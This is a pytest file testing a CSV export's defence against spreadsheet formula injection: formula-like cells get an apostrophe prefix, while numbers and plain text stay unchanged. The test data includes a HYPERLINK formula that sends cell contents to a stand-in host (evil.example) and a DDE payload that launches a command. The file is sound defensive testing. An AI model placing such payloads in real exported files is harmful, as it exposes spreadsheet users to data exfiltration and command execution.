"""Tests of `nuclick_qp.export.csv_text`: what a spreadsheet does when it opens a table of ours."""

import csv
import io
from collections.abc import Callable
from pathlib import Path

import pytest
from shapely import Point

from drawn_objects import Drawn, export, table
from nuclick_qp.export.csv_text import csv_bytes

LINK = '=HYPERLINK("http://evil.example/?"&A1,"Tumor")'
MakeProject = Callable[..., Path]


@pytest.mark.parametrize("text", [LINK, "+1+cmd|' /C calc'!A0", "-2+3", "@SUM(1,2)", "\t=1", "\r=1", "\n=1", "＝1+1", "-", "-inf=1"])
def test_formulas_are_quoted(text: str) -> None:
    """An apostrophe in front makes a text of them, and all else stays."""
    data, quoted = csv_bytes([[text]])

    assert list(csv.reader(io.StringIO(data.decode(), newline=""))) == [[f"'{text}"]]
    assert quoted == 1


@pytest.mark.parametrize("value", [-4.5, -1, 0, "-4", "+5.25", "-1e-05", "Tumor", "a=b", "", "'", "Präparat -1", "x@y"])
def test_numbers_and_other_texts_stay(value: object) -> None:
    """Negative measurements are numbers; a sign inside a text does nothing."""
    data, quoted = csv_bytes([[value, "end"]])

    assert list(csv.reader(io.StringIO(data.decode()))) == [[str(value), "end"]]
    assert quoted == 0


@pytest.mark.parametrize(("form", "name"), [("csv", "objects.csv"), ("masks", "labels.csv")])
def test_tables_of_an_export_hold_no_formula_and_the_record_counts_them(
    make_drawn_project: MakeProject, tmp_path: Path, form: str, name: str
) -> None:
    """Classes come from whoever made the project."""
    evil: Drawn = (Point(60, 60).buffer(12), "detection", LINK)

    report = export(make_drawn_project([evil]), tmp_path / "out", format=form)

    assert [row["class"] for row in table(tmp_path / "out" / name)] == [f"'{LINK}"]
    assert report.quoted_cells == 1
    assert '"quoted_cells": 1' in (tmp_path / "out" / "export.json").read_text()
